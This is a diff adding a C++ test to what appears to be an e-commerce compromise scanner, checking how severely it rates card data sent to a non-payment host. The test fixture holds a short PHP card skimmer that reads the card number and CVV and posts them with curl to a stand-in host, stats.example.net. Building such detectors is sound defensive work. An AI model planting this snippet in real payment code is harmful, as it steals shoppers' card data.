@@ -7,6 +7,7 @@
 #include "casefile/casefile.h"
 #include "core/sha256.h"
 #include "support/testing.h"
+#include "webroot/findings.h"
 #include "webroot/webroot.h"
 
 namespace tq::webroot {
@@ -356,6 +357,30 @@ TEST_F(InvestigateTest, CardFormsPostingToTheStoreOrAGatewayAreNotFlagged) {
   EXPECT_TRUE(by_path[t + "phish.html"].count("webroot.behaviour"));
   EXPECT_FALSE(by_path[t + "own.html"].count("webroot.behaviour"));
   EXPECT_FALSE(by_path[t + "gateway.html"].count("webroot.behaviour"));
+}
+
+// Card data posted to a host that is no payment provider's: medium in an extension of its own
+// (a regional gateway looks the same), high from the platform's own payment code.
+TEST_F(InvestigateTest, CardSentAwayFromThePlatformsOwnCodeIsHigh) {
+  std::map<std::string, std::string> tree = clean;
+  std::string sender =
+      "<?php class Cc { public function capture($payment) {\n"
+      "  $d = array('n' => $payment->getCcNumber(), 'c' => $payment->getCcCid());\n"
+      "  $ch = curl_init('https://stats.example.net/collect');\n"
+      "  curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($d)); curl_exec($ch); } }";
+  std::string core = "vendor/magento/module-payment/Model/Method/Cc.php";
+  std::string m1 = "app/code/core/Mage/Payment/Model/Method/Cc.php";
+  std::string ext = "app/code/Acme/Gateway/Model/Cc.php";
+  tree[core] = sender;
+  tree[m1] = sender;
+  tree[ext] = sender;
+  InvestigateShop(tree);
+  auto sev = SeverityByPath("webroot.behaviour");
+  EXPECT_EQ(sev[core], Severity::kHigh);
+  EXPECT_EQ(sev[m1], Severity::kHigh);
+  EXPECT_EQ(sev[ext], Severity::kMedium);
+  EXPECT_TRUE(PlatformCorePath("shop/WP-INCLUDES/pluggable.php"));
+  EXPECT_FALSE(PlatformCorePath("app/code/Acme/vendor/magento-tools/x.php"));
 }
 
 }  // namespace
